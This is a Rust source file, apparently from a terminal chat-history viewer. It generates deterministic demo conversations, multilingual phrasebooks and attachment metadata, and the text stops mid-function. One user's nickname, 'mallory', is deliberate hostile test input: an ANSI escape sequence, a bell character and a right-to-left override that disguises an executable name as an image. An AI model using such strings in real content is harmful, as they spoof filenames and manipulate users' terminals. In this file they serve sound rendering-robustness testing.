//! The bundled demo history: a deterministic generator of everything `roam` shows when it
//! starts with no arguments.
//!
//! The demo user [`DEMO_USER`] (password [`DEMO_PASSWORD`], app key [`DEMO_APPKEY`]) has
//! single chats, groups and a chat room in many scripts and languages, every content kind,
//! unread counts, pins and marks, one group of more than 100,000 messages over three and a
//! half years, and a single chat (`mallory`) full of hostile text: terminal escape
//! sequences, C1 controls, bidi overrides, zero-width characters and a 200 KB message.
//!
//! The output is a pure function of this file: the generator uses its own small PRNG
//! (splitmix64) with fixed seeds, never the clock or the `rand` crate, so the assets in
//! `assets/` only change when this code does. `tests/demo_assets.rs` checks that the files
//! on disk match [`generate`]; run it with `ROAM_BLESS_DEMO=1` to rewrite them.
//!
//! Times are chosen in the demo user's local time, UTC+8, and stored as UTC milliseconds.

pub mod files;

use std::collections::HashMap;
use std::io::Write;

use flate2::{Compression, GzBuilder};
use serde_json::{Map, Value};

use crate::protocol::json::ExportLine;
use crate::protocol::{Attachment, ChatType, Content, Message, Size};
use crate::store::state::{ConversationState, GroupState, RoomState, StateFile, UserState};

/// The demo user's id.
pub const DEMO_USER: &str = "demo";
/// The demo user's password, stored in plain text in the state file (it is public: the
/// demo has nothing to protect).
pub const DEMO_PASSWORD: &str = "roam-demo";
/// The app key of the demo deployment (`org#app`).
pub const DEMO_APPKEY: &str = "roam#demo";
/// Where the demo export file lives, relative to the crate root.
pub const HISTORY_ASSET: &str = "assets/demo-history.jsonl.gz";
/// Where the demo state file lives, relative to the crate root.
pub const STATE_ASSET: &str = "assets/demo-state.json";
/// The group with more than 100,000 messages spanning more than three years. Group and
/// room ids are long numbers, as the service makes them.
pub const BIG_CONVERSATION: &str = "262857469362177";
/// The family group.
pub const FAMILY: &str = "262857469362183";
/// The group of a trip to Tokyo.
pub const TOKYO_TRIP: &str = "262857469362199";
/// The book club group.
pub const BOOK_CLUB: &str = "262857469362205";
/// The design review group.
pub const DESIGN_REVIEW: &str = "262857469362211";
/// The single chat whose messages are hostile text.
pub const HOSTILE_CONVERSATION: &str = "mallory";
/// The chat room: reachable through history, never in conversation lists.
pub const ROOM: &str = "262857469362230";

/// The smallest message id: Easemob ids are larger than 2^53.
pub const ID_BASE: u64 = 1_100_000_000_000_000_000;
/// The time (ms) ids count from: 2020-01-01T00:00:00Z.
const ID_EPOCH_MS: i64 = 1_577_836_800_000;
/// The deflate level of the export file; fixed so the bytes are reproducible.
const GZIP_LEVEL: u32 = 6;
/// The demo user's offset from UTC (China Standard Time).
const LOCAL_OFFSET_MS: i64 = 8 * HOUR;

const SECOND: i64 = 1000;
const MINUTE: i64 = 60 * SECOND;
const HOUR: i64 = 60 * MINUTE;
const DAY: i64 = 24 * HOUR;

/// One conversation of the demo user, as generated.
#[derive(Clone, Debug, PartialEq)]
pub struct DemoConversation {
    /// The peer's user id, or the group or room id.
    pub id: String,
    /// The peer's nickname, or the group's or room's name, when it has one.
    pub name: Option<String>,
    /// Single, group or room.
    pub kind: ChatType,
    /// How many messages it holds.
    pub messages: usize,
    /// Unread messages in the demo user's list (0 for the room, which is never listed).
    pub unread: u32,
    /// Pinned in the demo user's list.
    pub pinned: bool,
}

/// The whole demo: the export lines, oldest first, and the state the export lacks.
#[derive(Clone, Debug, PartialEq)]
pub struct DemoHistory {
    /// Every message as a line of the service's export, in (timestamp, id) order.
    pub lines: Vec<ExportLine>,
    /// Users, group members and the demo user's unread counts, pins and marks.
    pub state: StateFile,
    /// A summary of the demo user's conversations, in the order they were specified.
    pub conversations: Vec<DemoConversation>,
}

impl DemoHistory {
    /// The summary of one conversation, by id.
    pub fn conversation(&self, id: &str) -> Option<&DemoConversation> {
        self.conversations.iter().find(|c| c.id == id)
    }
}

/// The gzip export file of the demo: one JSON object per line, deterministic (mtime 0, no
/// file name, OS byte 255, fixed level).
pub fn export_gz_bytes(history: &DemoHistory) -> Vec<u8> {
    let mut jsonl = Vec::with_capacity(history.lines.len() * 300);
    for line in &history.lines {
        serde_json::to_writer(&mut jsonl, line).expect("an export line always serializes");
        jsonl.push(b'\n');
    }
    let mut gz = GzBuilder::new()
        .mtime(0)
        .operating_system(255)
        .write(Vec::new(), Compression::new(GZIP_LEVEL));
    gz.write_all(&jsonl).expect("writing to memory cannot fail");
    gz.finish().expect("writing to memory cannot fail")
}

/// The state file of the demo as pretty JSON, ending in a newline.
pub fn state_json(history: &DemoHistory) -> String {
    let mut s =
        serde_json::to_string_pretty(&history.state).expect("the state file always serializes");
    s.push('\n');
    s
}

/// Generates the demo history. Deterministic: every call returns the same value.
pub fn generate() -> DemoHistory {
    let mut g = Gen::new();
    big_team(&mut g);
    single_li_wei(&mut g);
    single_tanaka(&mut g);
    single_sarah(&mut g);
    single_omar(&mut g);
    single_noa(&mut g);
    single_mom(&mut g);
    single_bot(&mut g);
    single_mallory(&mut g);
    group_family(&mut g);
    group_tokyo(&mut g);
    group_book_club(&mut g);
    group_design(&mut g);
    room_lobby(&mut g);
    g.finish()
}

// ---------------------------------------------------------------------------------------
// The cast and the conversations' list state
// ---------------------------------------------------------------------------------------

/// Every user the demo knows, with their nickname; only the demo user can log in. The
/// guests have none (they show as their ids); mallory's is hostile, as his messages are.
const USERS: &[(&str, Option<&str>)] = &[
    (DEMO_USER, Some("Demo")),
    ("li.wei", Some("李伟")),
    ("tanaka_yuki", Some("田中ゆき")),
    ("sarah.chen", Some("Sarah Chen")),
    ("omar.haddad", Some("Omar Haddad")),
    ("noa.levi", Some("Noa Levi")),
    ("kim.minjun", Some("김민준")),
    ("alex.wright", Some("Alex Wright")),
    ("wang.mei", Some("王梅")),
    ("wang.jun", Some("王俊")),
    ("wang.lily", Some("Lily 王")),
    ("roam-bot", Some("roam bot")),
    (
        HOSTILE_CONVERSATION,
        Some("Mallory\u{1b}[31m\u{202e}gnp.exe\u{7}"),
    ),
    ("elena.petrova", Some("Елена Петрова")),
    ("raj.patel", Some("Raj Patel")),
    ("guest_4821", None),
    ("guest_0077", None),
    ("marco.rossi", Some("Marco Rossi")),
];

/// The groups' and the room's names and descriptions.
const CONFERENCE_NAMES: &[(&str, &str, &str)] = &[
    (
        BIG_CONVERSATION,
        "roam dev team",
        "Building roam: history, paging, the TUI",
    ),
    (FAMILY, "王家 family", "家人群"),
    (TOKYO_TRIP, "東京旅行 2024", "Tokyo, April 2024"),
    (BOOK_CLUB, "Book club 📚", "One book a month"),
    (DESIGN_REVIEW, "Design review", "Screens and flows"),
    (ROOM, "Lobby", "Say hi"),
];

/// The name and description of a group or the room.
fn conference_name(id: &str) -> (Option<String>, Option<String>) {
    CONFERENCE_NAMES
        .iter()
        .find(|(gid, _, _)| *gid == id)
        .map_or((None, None), |(_, name, description)| {
            (Some(name.to_string()), Some(description.to_string()))
        })
}

/// Current group members (alex.wright left team-roam in 2023; his messages stay).
const GROUPS: &[(&str, &[&str])] = &[
    (
        BIG_CONVERSATION,
        &[
            DEMO_USER,
            "li.wei",
            "tanaka_yuki",
            "sarah.chen",
            "omar.haddad",
            "noa.levi",
            "kim.minjun",
        ],
    ),
    (FAMILY, &[DEMO_USER, "wang.mei", "wang.jun", "wang.lily"]),
    (
        TOKYO_TRIP,
        &[DEMO_USER, "tanaka_yuki", "li.wei", "sarah.chen"],
    ),
    (
        BOOK_CLUB,
        &[
            DEMO_USER,
            "sarah.chen",
            "noa.levi",
            "omar.haddad",
            "elena.petrova",
        ],
    ),
    (
        DESIGN_REVIEW,
        &[DEMO_USER, "sarah.chen", "li.wei", "raj.patel"],
    ),
];

/// How a conversation shows in the demo user's list.
struct ListSpec {
    id: &'static str,
    kind: ChatType,
    /// Unread is the number of incoming messages after the demo user's last one, capped.
    unread_cap: u32,
    pinned_at: Option<i64>,
    marks: &'static [&'static str],
}

fn list_specs() -> Vec<ListSpec> {
    let spec = |id, kind, unread_cap, pinned_at, marks| ListSpec {
        id,
        kind,
        unread_cap,
        pinned_at,
        marks,
    };
    use ChatType::{Group, Room, Single};
    vec![
        spec(
            BIG_CONVERSATION,
            Group,
            u32::MAX,
            Some(local(2024, 3, 4, 9, 12)),
            &["mark_0"],
        ),
        spec("li.wei", Single, 2, Some(local(2023, 5, 20, 22, 41)), &[]),
        spec("tanaka_yuki", Single, 1, None, &["mark_2"]),
        spec("sarah.chen", Single, 0, None, &["mark_0", "mark_1"]),
        spec("omar.haddad", Single, 5, None, &[]),
        spec("noa.levi", Single, 0, None, &["mark_1"]),
        spec("wang.mei", Single, 3, None, &[]),
        spec("roam-bot", Single, 12, None, &["mark_19"]),
        spec(HOSTILE_CONVERSATION, Single, 7, None, &["mark_3"]),
        spec(FAMILY, Group, 23, None, &[]),
        spec(TOKYO_TRIP, Group, 0, None, &["mark_2"]),
        spec(BOOK_CLUB, Group, 8, None, &[]),
        spec(DESIGN_REVIEW, Group, 4, None, &["mark_1", "mark_3"]),
        spec(ROOM, Room, 0, None, &[]),
    ]
}

// ---------------------------------------------------------------------------------------
// Time
// ---------------------------------------------------------------------------------------

/// Days since 1970-01-01 of a civil date (proleptic Gregorian).
fn days_from_civil(y: i64, m: i64, d: i64) -> i64 {
    let y = if m <= 2 { y - 1 } else { y };
    let era = y.div_euclid(400);
    let yoe = y - era * 400;
    let mp = (m + 9) % 12;
    let doy = (153 * mp + 2) / 5 + d - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    era * 146_097 + doe - 719_468
}

/// The civil date of a day number.
fn civil_from_days(z: i64) -> (i64, i64, i64) {
    let z = z + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    (
        if m <= 2 {
            yoe + era * 400 + 1
        } else {
            yoe + era * 400
        },
        m,
        d,
    )
}

/// UTC milliseconds of a local (UTC+8) time.
fn local(y: i64, m: i64, d: i64, h: i64, min: i64) -> i64 {
    days_from_civil(y, m, d) * DAY + h * HOUR + min * MINUTE - LOCAL_OFFSET_MS
}

/// The local (UTC+8) date and time of UTC milliseconds: (y, m, d, h, min, s).
fn local_parts(ms: i64) -> (i64, i64, i64, i64, i64, i64) {
    let t = ms + LOCAL_OFFSET_MS;
    let (y, m, d) = civil_from_days(t.div_euclid(DAY));
    let in_day = t.rem_euclid(DAY);
    (
        y,
        m,
        d,
        in_day / HOUR,
        in_day % HOUR / MINUTE,
        in_day % MINUTE / SECOND,
    )
}

// ---------------------------------------------------------------------------------------
// Randomness: splitmix64, so the output never depends on a crate's algorithm
// ---------------------------------------------------------------------------------------

struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Rng {
        Rng(seed)
    }

    fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (n > 0).
    fn below(&mut self, n: u64) -> u64 {
        ((u128::from(self.next_u64()) * u128::from(n)) >> 64) as u64
    }

    /// Uniform in `lo..=hi`.
    fn range(&mut self, lo: i64, hi: i64) -> i64 {
        lo + self.below((hi - lo + 1) as u64) as i64
    }

    /// True with probability `per_mille / 1000`.
    fn chance(&mut self, per_mille: u64) -> bool {
        self.below(1000) < per_mille
    }

    fn pick<T: Copy>(&mut self, items: &[T]) -> T {
        items[self.below(items.len() as u64) as usize]
    }

    /// An index chosen with the given weights.
    fn weighted(&mut self, weights: &[u32]) -> usize {
        let total: u64 = weights.iter().map(|&w| u64::from(w)).sum();
        let mut r = self.below(total);
        for (i, &w) in weights.iter().enumerate() {
            if r < u64::from(w) {
                return i;
            }
            r -= u64::from(w);
        }
        weights.len() - 1
    }
}

// ---------------------------------------------------------------------------------------
// The generator's state
// ---------------------------------------------------------------------------------------

struct Gen {
    rng: Rng,
    messages: Vec<Message>,
}

/// Where a conversation's next message goes and when.
struct Thread {
    id: &'static str,
    kind: ChatType,
    t: i64,
}

impl Thread {
    fn new(id: &'static str, kind: ChatType, t: i64) -> Thread {
        Thread { id, kind, t }
    }
}

impl Gen {
    fn new() -> Gen {
        Gen {
            rng: Rng::new(0x726f_616d_2d64_656d), // "roam-dem"
            messages: Vec::with_capacity(130_000),
        }
    }

    /// Starts a fresh random stream, so each conversation's output depends only on its
    /// own code.
    fn reseed(&mut self, seed: u64) {
        self.rng = Rng::new(seed ^ 0x726f_616d_2d64_656d);
    }

    fn push(&mut self, id: &str, kind: ChatType, time: i64, from: &str, c: Content, ext: Obj) {
        let to = match kind {
            ChatType::Single if from == DEMO_USER => id,
            ChatType::Single => DEMO_USER,
            _ => id,
        };
        self.messages.push(Message {
            id: 0,
            from: from.to_string(),
            to: to.to_string(),
            chat_type: kind,
            time,
            content: c,
            ext,
            meta: None,
        });
    }

    /// Posts a message at the thread's time, then moves the time on by a short, random
    /// pause.
    fn say(&mut self, th: &mut Thread, from: &str, content: Content) {
        self.say_ext(th, from, content, Map::new());
    }

    fn say_ext(&mut self, th: &mut Thread, from: &str, content: Content, ext: Obj) {
        self.push(th.id, th.kind, th.t, from, content, ext);
        th.t += self.rng.range(8 * SECOND, 150 * SECOND) + self.rng.range(0, 999);
    }

    /// Short text.
    fn txt(&mut self, th: &mut Thread, from: &str, text: &str) {
        self.say(th, from, text_of(text));
    }

    /// Sorts, numbers and summarizes everything generated.
    fn finish(mut self) -> DemoHistory {
        self.messages.sort_by_key(|m| m.time);
        let mut last_ms = i64::MIN;
        let mut seq = 0u64;
        for m in &mut self.messages {
            assert!(
                m.time >= ID_EPOCH_MS,
                "a demo message predates the id epoch"
            );
            if m.time == last_ms {
                seq += 1;
            } else {
                seq = 0;
                last_ms = m.time;
            }
            // Snowflake-like: milliseconds since the epoch, then a sequence within the ms.
            m.id = ID_BASE + (((m.time - ID_EPOCH_MS) as u64) << 12) + seq;
        }

        // Per conversation: count, and incoming messages after the demo user's last one.
        let mut counts: HashMap<&str, (usize, u32)> = HashMap::new();
        for m in &self.messages {
            let entry = counts.entry(conversation_of(m)).or_default();
            entry.0 += 1;
            if m.from == DEMO_USER {
                entry.1 = 0;
            } else {
                entry.1 = entry.1.saturating_add(1);
            }
        }

        let mut conversations = Vec::new();
        let mut states = Vec::new();
        for spec in list_specs() {
            let (messages, trailing) = counts.get(spec.id).copied().unwrap_or_default();
            let listed = spec.kind != ChatType::Room;
            let unread = if listed {
                trailing.min(spec.unread_cap)
            } else {
                0
            };
            let name = match spec.kind {
                ChatType::Single => USERS
                    .iter()
                    .find(|(user, _)| *user == spec.id)
                    .and_then(|(_, nickname)| nickname.map(str::to_string)),
                ChatType::Group | ChatType::Room => conference_name(spec.id).0,
            };
            conversations.push(DemoConversation {
                id: spec.id.to_string(),
                name,
                kind: spec.kind,
                messages,
                unread,
                pinned: spec.pinned_at.is_some(),
            });
            if listed {
                states.push(ConversationState {
                    user: DEMO_USER.to_string(),
                    id: spec.id.to_string(),
                    kind: spec.kind.wire_name().to_string(),
                    unread,
                    pinned: spec.pinned_at.is_some(),
                    pinned_at: spec.pinned_at,
                    marks: spec.marks.iter().map(|m| m.to_string()).collect(),
                });
            }
        }

        let state = StateFile {
            users: USERS
                .iter()
                .map(|&(name, nickname)| UserState {
                    name: name.to_string(),
                    password: (name == DEMO_USER).then(|| DEMO_PASSWORD.to_string()),
                    password_hash: None,
                    nickname: nickname.map(str::to_string),
                })
                .collect(),
            groups: GROUPS
                .iter()
                .map(|(id, members)| {
                    let (name, description) = conference_name(id);
                    GroupState {
                        id: id.to_string(),
                        name,
                        description,
                        members: members.iter().map(|m| m.to_string()).collect(),
                    }
                })
                .collect(),
            rooms: {
                let (name, description) = conference_name(ROOM);
                vec![RoomState {
                    id: ROOM.to_string(),
                    name,
                    description,
                }]
            },
            conversations: states,
            ..StateFile::default()
        };

        let lines = self
            .messages
            .iter()
            .map(|m| {
                let direction = if m.from == DEMO_USER {
                    "outgoing"
                } else {
                    "incoming"
                };
                ExportLine::from_message(m, direction)
            })
            .collect();
        DemoHistory {
            lines,
            state,
            conversations,
        }
    }
}

/// The demo user's conversation a message belongs to.
fn conversation_of(m: &Message) -> &str {
    match m.chat_type {
        ChatType::Single if m.from == DEMO_USER => &m.to,
        ChatType::Single => &m.from,
        _ => &m.to,
    }
}

// ---------------------------------------------------------------------------------------
// Content builders
// ---------------------------------------------------------------------------------------

type Obj = Map<String, Value>;

/// A JSON object with its keys in sorted order, so the bytes are the same whether or not
/// serde_json keeps insertion order.
fn obj(pairs: Vec<(&str, Value)>) -> Obj {
    let mut pairs = pairs;
    pairs.sort_by(|a, b| a.0.cmp(b.0));
    pairs.into_iter().map(|(k, v)| (k.to_string(), v)).collect()
}

fn text_of(s: &str) -> Content {
    Content::Text {
        text: s.to_string(),
    }
}

fn mention(users: &[&str]) -> Obj {
    obj(vec![(
        "em_at_list",
        Value::Array(users.iter().map(|u| Value::from(*u)).collect()),
    )])
}

const URL_ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

impl Gen {
    /// A chat file URL in the service's style.
    fn chatfile(&mut self) -> String {
        let a = self.rng.next_u64();
        let b = self.rng.next_u64();
        format!(
            "https://a1.easemob.com/roam/demo/chatfiles/{:08x}-{:04x}-11{:02x}-{:04x}-{:012x}",
            a >> 32,
            (a >> 16) & 0xffff,
            (a >> 8) & 0xff,
            0x8000 | (b >> 48) & 0x3fff,
            b & 0xffff_ffff_ffff
        )
    }

    /// A share secret in the service's style: 44 URL-safe base64 characters.
    fn secret(&mut self) -> String {
        (0..44)
            .map(|_| URL_ALPHABET[self.rng.below(64) as usize] as char)
            .collect()
    }

    fn attachment(&mut self, filename: &str, length: u64) -> Attachment {
        Attachment {
            url: self.chatfile(),
            secret: Some(self.secret()),
            filename: filename.to_string(),
            file_length: Some(length),
        }
    }

    fn image(&mut self, filename: &str, w: u32, h: u32, length: u64) -> Content {
        Content::Image {
            file: self.attachment(filename, length),
            size: Some(Size {
                width: f64::from(w),
                height: f64::from(h),
            }),
            gif: false,
        }
    }

    fn gif(&mut self, filename: &str, w: u32, h: u32, length: u64) -> Content {
        Content::Image {
            file: self.attachment(filename, length),
            size: Some(Size {
                width: f64::from(w),
                height: f64::from(h),
            }),
            gif: true,
        }
    }

    fn video(&mut self, filename: &str, secs: u32, w: u32, h: u32, length: u64) -> Content {
        let thumb = self.chatfile();
        let thumb_secret = self.secret();
        Content::Video {
            file: self.attachment(filename, length),
            duration: Some(secs),
            thumb: Some(thumb),
            thumb_secret: Some(thumb_secret),
            size: Some(Size {
                width: f64::from(w),
                height: f64::from(h),
            }),
        }
    }

    fn audio(&mut self, secs: u32) -> Content {
        let name = format!("audio_{}.amr", self.rng.range(100_000, 999_999));
        let length = u64::from(secs) * 1_600 + self.rng.below(900);
        Content::Audio {
            file: self.attachment(&name, length),
            duration: Some(secs),
        }
    }

    fn file(&mut self, filename: &str, length: u64) -> Content {
        Content::File {
            file: self.attachment(filename, length),
        }
    }

    fn combined(&mut self, title: &str, summary: &str, level: u32) -> Content {
        let name = format!("combine_{}.txt", self.rng.range(10_000_000, 99_999_999));
        let length = self.rng.range(2_000, 60_000) as u64;
        Content::Combined {
            title: title.to_string(),
            summary: summary.to_string(),
            file: self.attachment(&name, length),
            level: Some(level),
            text: "[Chat History]".to_string(),
        }
    }
}

fn location(address: &str, lat: f64, lng: f64, building: Option<&str>) -> Content {
    Content::Location {
        address: address.to_string(),
        lat,
        lng,
        building: building.map(str::to_string),
    }
}

fn command(action: &str) -> Content {
    Content::Command {
        action: action.to_string(),
    }
}

fn custom(event: &str, exts: Vec<(&str, Value)>) -> Content {
    Content::Custom {
        event: event.to_string(),
        exts: obj(exts),
    }
}

// ---------------------------------------------------------------------------------------
// Phrases
// ---------------------------------------------------------------------------------------

#[derive(Clone, Copy, PartialEq)]
enum Lang {
    En,
    Zh,
    Ja,
    Ar,
    He,
    Ko,
}

struct Phrasebook {
    reactions: &'static [&'static str],
    bodies: &'static [&'static str],
    openers: &'static [&'static str],
    closers: &'static [&'static str],
    components: &'static [&'static str],
    cities: &'static [&'static str],
    joiner: &'static str,
}

const EN_COMPONENTS: &[&str] = &[
    "login",
    "history paging",
    "conversation list",
    "search",
    "token refresh",
    "gzip import",
    "emoji width",
    "scroll anchor",
    "prefetch",
    "sqlite schema",
    "retry backoff",
    "status line",
    "day separator",
    "RTL rendering",
    "pty test",
    "protobuf decoder",
];

const EN: Phrasebook = Phrasebook {
    reactions: &[
        "lgtm",
        "👍",
        "ok",
        "on it",
        "thanks!",
        "nice 🎉",
        "haha",
        "+1",
        "ship it 🚀",
        "brb",
        "back",
        "sounds good",
        "will do",
        "ack",
        "good morning ☀️",
        "gn 🌙",
        "lunch?",
        "🙏",
        "💯",
        "👀",
        "done ✅",
        "sorry, in a meeting",
        "ping me when ready",
        "same here",
        "yes",
        "not yet",
        "🤔",
        "🔥",
        "😂",
        "👍🏽",
        "🙌🏻",
        "👋🏿",
        "👨🏽‍💻 heads down for a bit",
        "🤦‍♂️",
        "❤️‍🔥",
        "🫶🏼",
        "coffee ☕?",
        "on my way 🏃‍♀️",
        "🏳️‍🌈🎉 happy pride!",
        "agreed",
        "let me check",
        "nope",
        "fixed",
        "can't repro",
        "weird",
        "oh no",
    ],
    bodies: &[
        "the {c} tests are flaky again",
        "I pushed a fix for the {c} crash, PR #{n}",
        "can someone review #{n}? it's small",
        "{p} is looking into the {c} timeout",
        "deploy to staging is done",
        "CI is red on main, {c} again",
        "standup moved to {h}:30",
        "who owns the {c} migration?",
        "{c} latency is back to normal",
        "let's pair on the {c} refactor after lunch",
        "I'll write up the {c} design doc today",
        "the customer in {city} reported the {c} bug again",
        "merged, thanks {p}!",
        "rollback done, {c} is stable",
        "release {v} is tagged",
        "benchmarks: {c} is {pct}% faster now",
        "{p} can you take a look at the {c} logs?",
        "I think the {c} change broke the {c2} snapshot tests",
        "I'm out tomorrow, {p} has the pager",
        "the {c} flamegraph is in the doc",
        "does anyone remember why {c} retries {h} times?",
        "new issue from a user in {city}: {c} is slow on a 3G link",
        "the {c} PR needs one more approval",
        "filed #{n} for the {c} regression",
        "{c} works on macOS but not on Windows Terminal",
    ],
    openers: &[
        "",
        "",
        "",
        "",
        "ok so ",
        "fyi ",
        "heads up: ",
        "quick q: ",
        "hmm, ",
        "btw ",
        "so ",
        "update: ",
    ],
    closers: &[
        "",
        "",
        "",
        "",
        "",
        " 🙏",
        " 👍",
        " 😅",
        "!",
        " (again)",
        " lol",
        " — thoughts?",
        "?",
    ],
    components: EN_COMPONENTS,
    cities: &[
        "Beijing",
        "Shanghai",
        "Tokyo",
        "Osaka",
        "Dubai",
        "Tel Aviv",
        "Berlin",
        "Seoul",
        "São Paulo",
        "Singapore",
    ],
    joiner: ". ",
};

const ZH: Phrasebook = Phrasebook {
    reactions: &[
        "好的",
        "收到",
        "👍",
        "哈哈哈",
        "辛苦了",
        "没问题",
        "稍等",
        "马上",
        "可以",
        "我看看",
        "早上好☀️",
        "晚安🌙",
        "牛",
        "666",
        "好滴",
        "了解",
        "谢谢！",
        "在吗？",
        "吃饭了吗",
        "🙏",
        "搞定✅",
        "我也是",
        "不是吧😂",
        "👍🏻",
        "加油💪🏼",
        "等我一下",
        "明白",
    ],
    bodies: &[
        "{c}的测试又挂了",
        "我刚提交了{c}的修复，PR #{n}",
        "谁能帮我看一下#{n}？改动不大",
        "{p}在查{c}超时的问题",
        "测试环境已经部署好了",
        "主干CI红了，又是{c}",
        "站会改到{h}点半",
        "{c}的迁移谁负责？",
        "{c}延迟恢复正常了",
        "下午一起结对改{c}吧",
        "今天我来写{c}的设计文档",
        "{city}的客户又报了{c}的bug",
        "合了，谢谢{p}！",
        "回滚完成，{c}稳定了",
        "{v}已经打tag了",
        "压测结果：{c}快了{pct}%",
        "{p}帮忙看下{c}的日志？",
        "明天我请假，值班交给{p}了",
        "{c}在Windows Terminal上显示不对",
        "新建了#{n}跟踪{c}的回归",
    ],
    openers: &[
        "",
        "",
        "",
        "",
        "那个，",
        "顺便说一下，",
        "提醒一下：",
        "问一下，",
        "嗯，",
    ],
    closers: &["", "", "", "", "～", "！", "？", "🙏", "😅", "哈哈"],
    components: &[
        "登录",
        "历史分页",
        "会话列表",
        "搜索",
        "token刷新",
        "gzip导入",
        "表情宽度",
        "滚动锚点",
        "预取",
        "数据库表结构",
        "重试退避",
        "状态栏",
        "日期分隔线",
        "从右到左渲染",
        "伪终端测试",
        "protobuf解码",
    ],
    cities: &[
        "北京",
        "上海",
        "东京",
        "大阪",
        "迪拜",
        "特拉维夫",
        "柏林",
        "首尔",
        "圣保罗",
        "新加坡",
    ],
    joiner: "。",
};

const JA: Phrasebook = Phrasebook {
    reactions: &[
        "了解です",
        "ありがとうございます！",
        "お疲れ様です",
        "👍",
        "承知しました",
        "なるほど",
        "確認します",
        "少々お待ちください",
        "おはようございます☀️",
        "お先に失礼します",
        "草",
        "いいね！",
        "🙇‍♀️",
        "すみません、会議中です",
        "やったー🎉",
        "大丈夫です",
        "👌🏻",
    ],
    bodies: &[
        "{c}のテストがまた落ちてます",
        "{c}のクラッシュ修正をpushしました、PR #{n}",
        "#{n}のレビューお願いできますか？小さい変更です",
        "{p}さんが{c}のタイムアウトを調査中です",
        "ステージングへのデプロイ完了しました",
        "mainのCIが赤いです、また{c}です",
        "朝会は{h}時半に変更です",
        "{c}の移行は誰が担当ですか？",
        "{c}のレイテンシは正常に戻りました",
        "{c}の設計ドキュメントを今日書きます",
        "{v}のタグを打ちました",
        "ベンチマーク：{c}が{pct}%速くなりました",
        "{city}のユーザーから{c}の不具合報告が来ています",
        "明日は休みます、{p}さんよろしくお願いします",
    ],
    openers: &[
        "",
        "",
        "",
        "",
        "すみません、",
        "念のため、",
        "ちなみに、",
        "あの、",
    ],
    closers: &["", "", "", "", "！", "。", "🙏", "😅", "（汗）", "ｗ"],
    components: &[
        "ログイン",
        "履歴ページング",
        "会話一覧",
        "検索",
        "トークン更新",
        "gzipインポート",
        "絵文字の幅",
        "スクロールアンカー",
        "プリフェッチ",
        "SQLiteスキーマ",
        "リトライ",
        "ステータスライン",
        "日付区切り",
        "RTL表示",
        "PTYテスト",
        "protobufデコーダ",
    ],
    cities: &[
        "北京",
        "上海",
        "東京",
        "大阪",
        "ドバイ",
        "テルアビブ",
        "ベルリン",
        "ソウル",
        "サンパウロ",
        "シンガポール",
    ],
    joiner: "。",
};

const AR: Phrasebook = Phrasebook {
    reactions: &[
        "تمام",
        "شكراً!",
        "👍🏾",
        "حسناً",
        "صباح الخير ☀️",
        "تصبح على خير",
        "ممتاز 🎉",
        "إن شاء الله",
        "لحظة من فضلك",
        "موافق",
        "ما شاء الله",
        "يعطيك العافية",
    ],
    bodies: &[
        "اختبارات {c} فشلت مرة أخرى",
        "دفعت إصلاحاً لمشكلة {c}، PR #{n}",
        "هل يمكن لأحد مراجعة #{n}؟ التغيير صغير",
        "النشر على بيئة الاختبار اكتمل",
        "الاجتماع اليومي الساعة {h}:30",
        "سأكتب وثيقة تصميم {c} اليوم",
        "الإصدار {v} جاهز",
        "{p} هل يمكنك النظر في سجلات {c}؟",
        "عميل في {city} أبلغ عن مشكلة في {c}",
    ],
    openers: &["", "", "", "للعلم: ", "سؤال سريع: ", "تحديث: "],
    closers: &["", "", "", "!", "؟", " 🙏", " 😅"],
    components: EN_COMPONENTS,
    cities: &[
        "بكين",
        "شنغهاي",
        "طوكيو",
        "دبي",
        "برلين",
        "سيول",
        "سنغافورة",
    ],
    joiner: ". ",
};

const HE: Phrasebook = Phrasebook {
    reactions: &[
        "סבבה",
        "תודה!",
        "👍🏼",
        "בסדר",
        "בוקר טוב ☀️",
        "לילה טוב",
        "מעולה 🎉",
        "רגע",
        "מסכים",
        "אחלה",
        "יאללה",
    ],
    bodies: &[
        "הבדיקות של {c} נכשלו שוב",
        "דחפתי תיקון ל-{c}, PR #{n}",
        "מישהו יכול לעבור על #{n}? שינוי קטן",
        "הפריסה ל-staging הסתיימה",
        "הסטנדאפ עבר ל-{h}:30",
        "אכתוב היום את מסמך העיצוב של {c}",
        "גרסה {v} מוכנה",
        "{p} תוכל להסתכל על הלוגים של {c}?",
        "לקוח מ{city} דיווח שוב על באג ב-{c}",
    ],
    openers: &["", "", "", "לידיעתכם: ", "שאלה קטנה: ", "עדכון: "],
    closers: &["", "", "", "!", "?", " 🙏", " 😅"],
    components: EN_COMPONENTS,
    cities: &[
        "בייג'ינג",
        "שנגחאי",
        "טוקיו",
        "דובאי",
        "ברלין",
        "סיאול",
        "סינגפור",
    ],
    joiner: ". ",
};

const KO: Phrasebook = Phrasebook {
    reactions: &[
        "네!",
        "감사합니다",
        "👍",
        "좋아요",
        "확인했습니다",
        "잠시만요",
        "ㅋㅋㅋ",
        "수고하셨습니다",
        "화이팅💪🏻",
    ],
    bodies: &[
        "{c} 테스트가 또 실패했어요",
        "{c} 수정 PR #{n} 올렸습니다",
        "#{n} 리뷰 부탁드려요",
        "스테이징 배포 완료했습니다",
        "{v} 태그 찍었습니다",
        "{city} 고객이 {c} 버그를 또 제보했어요",
    ],
    openers: &["", "", "", "참고로 ", "혹시 "],
    closers: &["", "", "!", "~", " 🙏"],
    components: EN_COMPONENTS,
    cities: &[
        "베이징",
        "상하이",
        "도쿄",
        "두바이",
        "베를린",
        "서울",
        "싱가포르",
    ],
    joiner: ". ",
};

fn book(lang: Lang) -> &'static Phrasebook {
    match lang {
        Lang::En => &EN,
